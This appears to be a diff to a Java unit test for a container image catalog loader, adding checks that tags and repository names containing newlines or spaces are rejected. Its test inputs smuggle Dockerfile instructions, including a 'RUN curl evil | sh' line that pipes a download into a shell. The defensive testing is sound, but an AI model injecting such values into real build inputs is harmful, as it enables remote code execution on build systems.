@@ -20,7 +20,7 @@ class CatalogLoaderTest {
     static String image(String tagsJson) {
         return "{\"file\":\"debian-13/1.yaml\",\"variant\":\"runtime\",\"distro\":\"debian\",\"distroVersion\":\"13\","
                 + "\"libc\":\"glibc\",\"version\":\"1.2.3\",\"tags\":" + tagsJson
-                + ",\"packageCount\":3,\"shell\":false,\"packageManager\":false}";
+                + ",\"uid\":65532,\"packageCount\":3,\"shell\":false,\"packageManager\":false}";
     }
 
     static String catalog(String imagesJson) {
@@ -63,6 +63,8 @@ class CatalogLoaderTest {
     @Test
     void rejectsATagThatIsNotAValidReference() {
         assertThatThrownBy(() -> load(catalog(image("[\"1\\nRUN curl evil | sh\"]"))))
+                .hasMessageStartingWith("test.json: /repositories/0/images/0/tags/0: contains the control character \\n");
+        assertThatThrownBy(() -> load(catalog(image("[\"1 latest\"]"))))
                 .hasMessageStartingWith("test.json: /repositories/0/images/0/tags/0: tag is not a valid reference");
         assertThatThrownBy(() -> load(catalog(image("[\"1 latest\"]"))))
                 .hasMessageContaining("/repositories/0/images/0/tags/0");
@@ -86,6 +88,9 @@ class CatalogLoaderTest {
     void rejectsAHostileRepositoryName() {
         String json = catalog(image("[\"1\"]")).replace("\"name\":\"alpha\"", "\"name\":\"alpha\\nFROM evil\"");
         assertThatThrownBy(() -> load(json)).hasMessageContaining("/repositories/0/name")
+                .hasMessageContaining("control character");
+        String spaced = catalog(image("[\"1\"]")).replace("\"name\":\"alpha\"", "\"name\":\"alpha FROM evil\"");
+        assertThatThrownBy(() -> load(spaced)).hasMessageContaining("/repositories/0/name")
                 .hasMessageContaining("not valid");
     }
 
